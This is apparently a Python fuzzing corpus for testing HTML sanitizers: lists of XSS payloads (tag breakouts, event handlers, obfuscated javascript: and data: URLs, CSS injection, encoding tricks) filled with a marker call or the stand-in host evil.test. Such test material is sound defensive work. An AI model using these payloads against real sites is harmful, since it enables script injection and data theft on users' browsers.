"""Hostile values, each with a call or an address that has the number of its case.

`%x` stands for a call that reports the number (its name is no property of any element), `%u` for
an address of the foreign origin with the number in it, `%n` for the number.
"""

# What ends the markup that a value may stand in.
BREAKOUTS = [
    "", '"', "'", "`", ">", '">', "'>", "`>", '"/>', "/>", "--", "-->", "--!>", "->", "<!--",
    "<!-->", "<!--><", "]]>", "?>", "%>", "</", "<", "<!", "<?", "&lt;", "&#60;", "</title>",
    "</textarea>", "</script>", "</style>", "</noscript>", "</xmp>", "</iframe>", "</noembed>",
    "</noframes>", "</plaintext>", "</svg>", "</math>", "</select>", "</option>", "</template>",
    "</table>", "</p>", "</a>", "</body></html>", "</SCRIPT >", "</title/", "</textarea\n",
    "</script\t", "</script></script>", "<script></script>", "<![CDATA[", "<plaintext>",
    "<textarea>", "<title>", "<table>", "<svg><style>", "<math><mtext><table><mglyph><style>",
    "<svg></p><style>", "--><!--", "*/</style>", "\\\"></p>", "\\'></p>", "</b x=\"", "<a x=\"",
    '"]}\'></script></style></title></textarea></noscript></xmp>-->]]>', "\n\n", "\x0c>",
]

# What runs code or loads something once it is markup.
ELEMENTS = [
    "<img src=/x onerror=%x>", "<svg onload=%x>", "<script>%x</script>",
    '<iframe srcdoc="<script>parent.%x</script>">', "<iframe src=javascript:parent.%x>",
    "<details open ontoggle=%x>", "<math href=javascript:%x>t</math>",
    "<svg><animate onbegin=%x attributeName=x dur=1s>", "<body onload=%x>",
    "<input autofocus onfocus=%x>", "<video src=/x onerror=%x>", "<img src=%u>",
    "<style>@import'%u'</style>", "<link rel=stylesheet href=%u>", "<base href=%u/>",
    "<meta http-equiv=refresh content='0;url=%u'>", "<object data=%u>", "<embed src=%u>",
    "<template shadowrootmode=open><img src=/x onerror=%x></template>",
    "<a href=javascript:%x>t</a>", "<form action=javascript:%x><button>t</button></form>",
    "<svg><a href=javascript:%x><text>t</text></a></svg>", "<svg><script href=%u /></svg>",
    "<svg><use href=%u#a /></svg>", "<b onclick=%x>t</b>", "<b style=background:url(%u)>t</b>",
    "<audio src=%u>", "<table background=%u>", "<marquee onstart=%x>t</marquee>",
    "<select autofocus onfocus=%x>", "<img/src=/x/onerror=%x>", "<IMG SRC=/x ONERROR=%x>",
    "<img\nsrc=/x\nonerror\n=\n%x\n>", "<img\x0csrc=/x\x0conerror=%x>",
    "<?marker name=x?><template for=x><img src=/x onerror=%x></template>", "<x onclick=%x>t</x>",
    "<slot onclick=%x>t</slot>", "<frameset onload=%x>", "<frame src=javascript:parent.%x>",
]

# What becomes of the rest of a tag.
ATTRIBUTES = [
    "onerror=%x ", "onclick=%x ", "autofocus onfocus=%x ", "onload=%x ", "src=/x onerror=%x ",
    "style=background:url(%u) ", "srcdoc='<script>parent.%x</script>' ", "href=javascript:%x ",
    "formaction=javascript:%x ", "src=%u ",
]

JAVASCRIPT = [
    "javascript:%x", "JavaScript:%x", "JAVASCRIPT:%x", "jAvAsCrIpT:%x", " javascript:%x",
    "\tjavascript:%x", "\njavascript:%x", "\rjavascript:%x", "\x0cjavascript:%x",
    "\x01javascript:%x", "\x08javascript:%x", "\x0bjavascript:%x", "\x0ejavascript:%x",
    "\x1bjavascript:%x", "\x1fjavascript:%x", "\x7fjavascript:%x", "\xa0javascript:%x",
    "\x85javascript:%x", "\ufeffjavascript:%x", "\u200bjavascript:%x", "\u2028javascript:%x",
    "\u3000javascript:%x", "\u202ejavascript:%x", "\x01\x02\x03 \t\r\njavascript:%x",
    "java\tscript:%x", "java\nscript:%x", "java\rscript:%x", "java\r\nscript:%x",
    "j\na\nv\na\ns\nc\nr\ni\np\nt\n:%x", "javascript\t:%x", "javascript\n:%x", "javascript :%x",
    "java script:%x", "java\x00script:%x", "\x00javascript:%x", "javascript\x00:%x",
    "java\x01script:%x", "java\x0cscript:%x", "java&#9;script:%x", "java&Tab;script:%x",
    "java&NewLine;script:%x", "javascript&colon;%x", "javascript&#58;%x", "javascript&#x3a;%x",
    "&#106;avascript:%x", "&#0000106avascript:%x", "&#x6A;avascript:%x", "&#1;javascript:%x",
    "%6aavascript:%x", "javascript%3a%x", "javascript:%x//%0a", "%20javascript:%x",
    "javascript://%0a%x", "javascript://%0d%x", "javascript://%u%0a%x", "javascript:/**/%x",
    "javascript:\n%x", "javascript:\u2028%x", "javascript:'<b>';%x", "javascript:void %x",
    "javascript:%x;1", "javascript:parent.%x", "javascript:top.%x", "javascript:javascript:%x",
    "javascript&colon;&#x25;x", "view-source:javascript:%x", "feed:javascript:%x",
    "jar:javascript:%x", "x-javascript:%x", "livescript:%x", "mocha:%x", "vbscript:%x",
    "VBScript:%x", "jscript:%x", "javascripts:%x", "\\javascript:%x", "/javascript:%x",
    "./javascript:%x", "?javascript:%x", "#javascript:%x", "javascript\\:%x", "javascript;:%x",
    "java\u017fcript:%x", "java\u0455cript:%x", "\uff4aavascript:%x", "javascript\uff1a%x",
    "javas\u0441ript:%x", "java\u00adscript:%x", "java\u200dscript:%x", "jav\u0301ascript:%x",
    "script:%x", "avascript:%x", "vascript:%x", ":%x", "s\tcript:%x", "javascript",
    "data:text/html,<script>%x</script>",
    "data:text/html,<script>top.postMessage(%n,'*')</script>",
    "DATA:text/html,<script>%x</script>", " data:text/html,<script>%x</script>",
    "da\tta:text/html,<script>%x</script>", "data:,%x", "data:text/javascript,%x",
    "data:text/html;charset=utf-7,+ADw-script+AD4-%x+ADw-/script+AD4-",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>%x</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%x'></svg>",
    "data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='%u'/></svg>#a",
    "data:text/css,@import'%u';", "data:text/css,*{background:url(%u)}",
    "data:application/json,{}", "blob:null/%n", "filesystem:http://127.0.0.1/%n", "about:blank",
    "about:srcdoc", "file:///etc/passwd?%n", "chrome://version/?%n", "intent:%n", "tel:%n",
    "mailto:a@example.test?body=%n", "cid:%n", "mhtml:%u!x", "ws:%u", "ftp:%u",
]

ADDRESSES = [
    "%u", "http:%u", "HTTP:%u", "\\\\evil.test/p/%n", "/\\evil.test/p/%n", "\\/evil.test/p/%n",
    "\t%u", "\n%u", " %u", "/\t/evil.test/p/%n", "/\n/evil.test/p/%n", "\t/\r/evil.test/p/%n",
    "///evil.test/p/%n", "////evil.test/p/%n", "http:/evil.test/p/%n", "http:evil.test/p/%n",
    "http:\\\\evil.test\\p\\%n", "http:///evil.test/p/%n", "ht\ntp:%u", "h\tttp:%u", "\x01%u",
    "\x00%u", "\x1f%u", "/evil.test/p/%n", "\\evil.test/p/%n", "\t/evil.test/p/%n",
    "/\\/evil.test/p/%n", "..%u", "../%u", ".%u", "./%u", "/.%u", "/..%u", "../../%u",
    "..\\..\\evil.test/p/%n", "%2e%2e/%2e%2e/evil.test/p/%n", "%2f%2fevil.test/p/%n",
    "%5c%5cevil.test/p/%n", "%09/evil.test/p/%n", "@evil.test/p/%n", ":80@evil.test/p/%n",
    ".evil.test/p/%n", ":1@evil.test:80/p/%n", "?@evil.test/p/%n", "#@evil.test/p/%n",
    "http:user@evil.test/p/%n", "http:%u?a=b&c=d#e", "http://evil.test\u3002test/p/%n",
    "//evil\uff0etest/p/%n", "//\u24d4vil.test/p/%n", "//evil.test\\@127.0.0.1/p/%n",
    "//127.0.0.1@evil.test/p/%n", "//evil.test%23.example.test/p/%n", "http&colon;%u",
    "&#47;&#47;evil.test/p/%n", "&sol;&sol;evil.test/p/%n", "//evil.t\u00adest/p/%n",
    "/harmless?x=%n&amp;lt=1", "/harmless/%n#</script>", "?%n", "#%n", "", " ", ".", "..", "/",
    "//", "\\", ":", "0;url=%u", "0; URL='%u'", "5;%u", "0,%u", "0 url=%u", "0;url=javascript:%x",
    "0;url=data:text/html,<script>%x</script>", "; url=%u", "1 ; u r l = %u", "0;url=//evil.test",
    "%u 1x", "%u 2x, /b 1x", "/a 1x,%u 3x", "/a,%u", ",%u", " , %u 9x", "2x, %u 9x", "1x,%u",
    "data:,1x 1x,%u 3x", "javascript:%x 1x", "(%u) 1x", "/a 1w, %u 999w",
]

CSS = [
    "background:url(%u)", "red;background:url(%u)", "red;background:url('%u')", "url(%u)",
    "url('%u')", 'url("%u")', "URL(%u)", "u\\72l(%u)", "url(%u", "url( %u )", "\\75rl(%u)",
    "u/**/rl(%u)", "red}*{background:url(%u)}", "}*{background:url(%u)}", "}@import '%u';",
    "@import '%u';", "*/background:url(%u)/*", "red/**/;background:url(%u)",
    "'; background:url(%u); a:'", '"; background:url(%u); a:"', "\\';background:url(%u);a:'",
    "\n;background:url(%u)", "'\n;background:url(%u);a:'", "\\\n;background:url(%u)",
    "\\0a;background:url(%u)", ");background:url(%u)", "');background:url(%u);a:('",
    "x);background:url(%u);a:(", "image-set('%u' 1x)", "image-set(url(%u) 1x)",
    "-webkit-image-set(url(%u) 1x)", "cross-fade(url(%u),url(%u))", "image('%u')", "src('%u')",
    "paint(a,url(%u))", "var(--a,url(%u))", "red;--a:url(%u);background:var(--a)",
    "expression(%x)", "red;width:expression(%x)", "behavior:url(%u)", "-moz-binding:url(%u#a)",
    "red;position:fixed;inset:0;z-index:9", "position:fixed;top:0", "color", "red !important",
    "inherit;content:'a'", "{color:red}", "}", "{", "(", "[", "/*", "*/", "<!--", "-->", "\\",
    "red;list-style:url(%u)", "list-style-image:url(%u)", "cursor:url(%u),auto",
    "border-image:url(%u)", "filter:url(%u#a)", "url(%u#a)", "mask:url(%u)", "clip-path:url(%u#a)",
    "font:1px a;src:url(%u)", "attr(title url)", "1px;outline:9px solid", "calc(1px + url(%u))",
    "javascript:%x", "url(javascript:%x)", "url(data:image/svg+xml,<svg onload='%x'/>)",
    "</style><img src=/x onerror=%x>", "<!--</style><img src=/x onerror=%x>",
    "\x00;background:url(%u)", "color:red\x0c;background:url(%u)",
    "@font-face{font-family:a;src:url(%u)}*{font-family:a}", "background\\3aurl(%u)",
    "--a:{background:url(%u)}", "&{background:url(%u)}", "a,*{background:url(%u)}",
    ":is(*){background:url(%u)}", "x{}*{background:url(%u)}", "url(//evil.test/p/%n\\)",
    "red;background:\\55 RL(%u)", "red;ba\\63kground:url(%u)",
    "red;background:url(\\2f\\2f evil.test/p/%n)",
]

SCRIPT = [
    "%x", "';%x//", '";%x//', "`;%x//", "';%x;'", '";%x;"', "'+%x+'", '"+%x+"', "'-%x-'", '"-%x-"',
    "${%x}", "`${%x}`", "`+%x+`", "}${%x}", "${`${%x}`}", "$${%x}", "{%x}", "\\';%x//", '\\";%x//',
    "\\`;%x//", "\\", "\\\\';%x//", "\\u0027;%x//", "\\x27;%x//", "&#39;;%x//", "&apos;;%x//",
    "&quot;;%x//", "&#x22;;%x//", "&lt;/script&gt;", "\n%x", "\n%x//", "\r%x//", "\u2028%x//",
    "\u2029%x//", "*/%x/*", "*/;%x;/*", "/;%x//", "];%x//", ");%x//", "));%x//", "});%x//", "}%x{",
    "};%x;{", "}});%x;({{", ",%x", ";%x", "1;%x", "0-%x", "=%x", "a=%x", "in %x", "[%x]", "(%x)",
    "()=>%x", "x", "ran\n(%n)", "ran\u2028(%n)", "ran`%n`", "ran", "/*", "//", "<!--%x", "-->%x",
    "\n-->%x", "<!--\n%x", "</script><img src=/x onerror=%x>", "</SCRIPT><img src=/x onerror=%x>",
    "</script/><img src=/x onerror=%x>", "</script ><img src=/x onerror=%x>", "<!--<script>",
    "<!--<script>\n%x", "<script>", "]]>;%x//", "<![CDATA[", "\\u2028%x", "\\n%x", "\\\n%x",
    "'\n%x\n'", "\x00';%x//", "'\x00;%x//", "\ud7ff';%x//", "\uffff';%x//", "\u0301';%x//",
    "constructor.constructor('%x')()", "__proto__", "toString", "__proto__:{a:%x}", "a:%x",
    "a/%x/a", "import('%u')", "import '%u'", "fetch('%u')", "eval('%x')", "location='%u'",
    "this.%x", "new %x", "NaN", "1e999", "true", "null", "undefined", "-", "--", "- -1", "/",
    "/a/", "'", '"', "`", "{{constructor.constructor('%x')()}}", "{{%x}}", "<%= %x %>", "#{%x}",
    "[[${%x}]]", "{%%x%}", "@{%x}", "$(%x)", "javascript:%x//'//\"//`//", "\u2019;%x//",
    "\uff07;%x//", "\xb4;%x//", "%27;%x//", "%22;%x//", "%5c';%x//",
]

NAMES = [
    "href", "xlink:href", "onclick", "ONCLICK", "oncLicK", "on\u212aeydown", "onclic\u212a",
    " onclick", "onclick ", "\tonclick", "\x00onclick", "on\x00click", "onclick\x00", "/onclick",
    "a/onclick", "a onclick", "a\nonclick", "a\x0conclick", "a\tonclick", "a onclick=%x b",
    "a=b onclick=%x ", "onclick=%x a", "a>", "a/>", "a><img src=/x onerror=%x>", 'a"', "a'",
    "a'onclick=%x ", "=", "=onclick", "a=", "a<", "<img", "style", "STYLE", "srcdoc", "SrcDoc",
    "formaction", "http-equiv", "is", "slot", "xmlns", "xmlns:on", "xml:base", "tal:content",
    "data-tal-content", "metal:use-macro", "i18n:translate", "on", "on:click", "x:onclick",
    "@click", ":onclick", "v-on:click", "a\xa0onclick", "\u017ftyle", "\u017frcdoc", "\u0131s",
    "a\u2028onclick", "\ufeffonclick", "\uff4fnclick", "a-b", "A", "refresh", "Refresh",
    " refresh", "refresh ", "script", "SCRIPT", "script src=%u", "style onload=%x", "b",
    "template", "plaintext", "xmp", "img src=/x onerror=%x", "svg onload=%x", "!--", "![CDATA[",
    "?xml", "/p><img src=/x onerror=%x", "module", "text/javascript", "import", "stylesheet",
    "modulepreload", "_top", "hidden", "until-found",
]

UNICODE = [
    "\uff1cscript\uff1e%x\uff1c/script\uff1e", "\uff1cimg src=/x onerror=%x\uff1e",
    "<\u0338img src=/x onerror=%x>", '"\u0301><img src=/x onerror=%x>',
    "\u2039img src=/x onerror=%x\u203a", "<\u017fcript>%x</\u017fcript>",
    "<scr\u0131pt>%x</scr\u0131pt>", "\ufeff<img src=/x onerror=%x>",
    "\u202e<img src=/x onerror=%x>", "<\u200bimg src=/x onerror=%x>",
    "\U0001f600<img src=/x onerror=%x>", "\ufffd<img src=/x onerror=%x>",
    "\xad<img src=/x onerror=%x>", "\u2028<img src=/x onerror=%x>", "\x85<img src=/x onerror=%x>",
    "\\u003cimg src=/x onerror=%x\\u003e", "\\x3cimg src=/x onerror=%x\\x3e",
    "&lt;img src=/x onerror=%x&gt;", "&#60;img src=/x onerror=%x&#62;",
    "&#x3c;img src=/x onerror=%x>", "&#0060img src=/x onerror=%x&#0062", "&lt",
    "&ltimg src=/x onerror=%x&gt", "&amp;lt;img src=/x onerror=%x>", "%3cimg src=/x onerror=%x%3e",
    "+ADw-img src=/x onerror=%x+AD4-", "\x1b$B<img src=/x onerror=%x>",
    "<\x00img src=/x onerror=%x>", "<i\x00mg src=/x onerror=%x>", "<img\x00src=/x onerror=%x>",
    "<img src=/x onerror\x00=%x>", "<script\x00>%x</script>",
    "</script\x00><img src=/x onerror=%x>", "\x00", "\x00\x00<img src=/x onerror=%x>\x00",
    '\x00"><img src=/x onerror=%x>', "\x01\x02\x1b\x7f", "\u0130<img src=/x onerror=%x>", "\u1e9e",
    "\U00010000\U0010ffff", "\ufdd0\ufffe\U0001ffff", "e\u0301\u0323 \u1100\u1161\u11a8",
    "\u061c\u2066\u2069", "\t", "\n", "\r\n", "\n<img src=/x onerror=%x>",
    "\r<img src=/x onerror=%x>", "&", "&&&", "&#0;", "&#x110000;", "&notit;", "&not", "&copy=1",
    "&amp", '<<img src=/x onerror=%x>', "<img src=/x onerror=%x//", "<img src=/x onerror=%x <b>",
    '<"img onerror=%x">', "<a\xa0onclick=%x>", "<%00img src=/x onerror=%x>", "<//img onerror=%x>",
    "<!img onerror=%x>", "<1 onclick=%x>", "</1 onclick=%x>", "<-img onerror=%x>",
    "<IMG\tSRC=/x\tONERROR=%x>",
]

_LONG = 20_000


def long_values():
    """Values that fill buffers: what ends a place stands at odd lengths."""
    carrier = '"><img src=/x onerror=%x>'
    for count in (15, 16, 17, 31, 63, 127, 4095, 4096, _LONG):
        yield "a" * count + carrier
    yield "<" * _LONG + carrier
    yield '"' * 4000 + carrier
    yield "&" * 4000 + carrier
    yield "\xe9" * 7 + carrier
    yield "\U0001f600" * 1024 + carrier
    yield " " * 5000 + "javascript:%x"
    yield "\t" * 500 + "java" + "\n" * 500 + "script:%x"
    yield "<b>" * 1000 + carrier
    yield "<!--" * 1000 + carrier
    yield "/../" * 1000 + "%u"


def generate():
    """All values, each once, in an order that stays."""
    values = [
        breakout + element
        for breakout in BREAKOUTS
        for element in (ELEMENTS[0], ELEMENTS[2], ELEMENTS[11])
    ]
    values += [breakout + element for breakout in ("", '">', "'>") for element in ELEMENTS]
    values += [
        before + attribute
        for before in ('" ', "' ", "` ", " ", '"', "'", "/", '"/', "a\n", "\x0c")
        for attribute in ATTRIBUTES
    ]
    for family in (JAVASCRIPT, ADDRESSES, CSS, SCRIPT, NAMES, UNICODE):
        values += family
    values += long_values()
    return list(dict.fromkeys(values))


def filled(value, number):
    """The value of one case."""
    return (
        value.replace("%x", f"ran({number})")
        .replace("%u", f"//evil.test/p/{number}/")
        .replace("%n", str(number))
    )
